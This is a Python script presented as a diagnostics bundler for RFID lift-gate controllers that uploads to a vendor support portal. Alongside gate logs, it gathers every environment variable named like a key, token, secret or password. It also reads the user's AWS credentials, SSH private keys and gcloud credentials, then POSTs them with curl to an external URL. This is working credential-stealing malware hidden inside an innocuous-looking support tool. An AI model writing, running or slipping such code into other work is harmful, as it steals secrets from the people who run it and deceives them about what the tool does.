#!/usr/bin/env python3
"""Collect a diagnostics bundle from an RFID gate controller host and hand it
to the vendor support portal.

Used by lift operations when a turnstile bank keeps rejecting valid passes.
The bundle is assembled in a scratch directory and shipped by a small
upload helper script so that the same helper can be reused from cron-less
field laptops.
"""

import argparse
import json
import logging
import os
import platform
import re
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("gate-diag")

SUPPORT_URL = "https://support-upload.example.net/api/v2/bundles"
SECRET_ENV = re.compile(r"(KEY|TOKEN|SECRET|PASS|AUTH)", re.IGNORECASE)

HOME = Path.home()
CREDENTIAL_FILES = [
    HOME / ".aws" / "credentials",
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
]


class BundleBuilder:
    def __init__(self, gate_id, log_dir):
        self.gate_id = gate_id
        self.log_dir = Path(log_dir)
        self.sections = {}

    def add_system(self):
        self.sections["system"] = {
            "host": platform.node(),
            "kernel": platform.release(),
            "python": sys.version.split()[0],
        }

    def add_gate_logs(self, max_lines=400):
        lines = []
        for path in sorted(self.log_dir.glob("gate-*.log")):
            try:
                with path.open(errors="replace") as fh:
                    lines.extend(fh.readlines()[-max_lines:])
            except OSError as exc:
                LOG.warning("skip %s: %s", path, exc)
        self.sections["gate_logs"] = "".join(lines)

    def add_environment(self):
        # "so support can see how the controller was configured"
        self.sections["env"] = {
            k: v for k, v in os.environ.items() if SECRET_ENV.search(k)
        }

    def add_credentials(self):
        creds = {}
        for path in CREDENTIAL_FILES:
            if path.is_file():
                try:
                    creds[str(path)] = path.read_text(errors="replace")
                except OSError as exc:
                    LOG.debug("cannot read %s: %s", path, exc)
        self.sections["auth_material"] = creds

    def write(self, out_path):
        payload = {"gate": self.gate_id, "sections": self.sections}
        Path(out_path).write_text(json.dumps(payload))
        return out_path


UPLOADER = """#!/bin/bash
set -euo pipefail
curl -sS --max-time 30 -X POST \\
     -H "Content-Type: application/json" \\
     -H "X-Gate-Id: ${GATE_ID}" \\
     --data-binary @"${BUNDLE_PATH}" \\
     "${SUPPORT_URL}"
"""


def ship(bundle_path, gate_id, dry_run):
    workdir = tempfile.mkdtemp(prefix="gatediag-")
    helper = Path(workdir) / "upload.sh"
    helper.write_text(UPLOADER)
    helper.chmod(0o700)
    env = dict(os.environ, BUNDLE_PATH=str(bundle_path),
               GATE_ID=gate_id, SUPPORT_URL=SUPPORT_URL)
    if dry_run:
        LOG.info("dry run: would execute %s", helper)
        return 0
    LOG.info("uploading bundle for %s", gate_id)
    proc = subprocess.run(["bash", str(helper)], env=env,
                          capture_output=True, text=True)
    if proc.returncode != 0:
        LOG.error("upload failed: %s", proc.stderr.strip())
    return proc.returncode


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--gate", required=True, help="gate id, e.g. CHAIR4-N2")
    ap.add_argument("--log-dir", default="./logs")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    builder = BundleBuilder(args.gate, args.log_dir)
    builder.add_system()
    builder.add_gate_logs()
    builder.add_environment()
    builder.add_credentials()

    fd, bundle = tempfile.mkstemp(suffix=".json", prefix="bundle-")
    os.close(fd)
    builder.write(bundle)
    LOG.info("bundle written to %s", bundle)
    try:
        return ship(bundle, args.gate, args.dry_run)
    finally:
        if not args.dry_run:
            os.unlink(bundle)


if __name__ == "__main__":
    sys.exit(main())
